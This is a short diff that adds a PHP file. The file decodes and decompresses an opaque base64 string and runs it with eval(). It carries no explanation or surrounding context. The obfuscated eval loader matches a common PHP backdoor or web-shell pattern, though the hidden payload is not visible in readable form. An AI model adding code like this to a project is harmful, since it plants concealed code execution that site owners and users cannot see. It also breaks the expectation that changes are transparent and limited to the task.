@@ -1,0 +1,3 @@
+<?php
+$x = gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA'));
+eval($x);
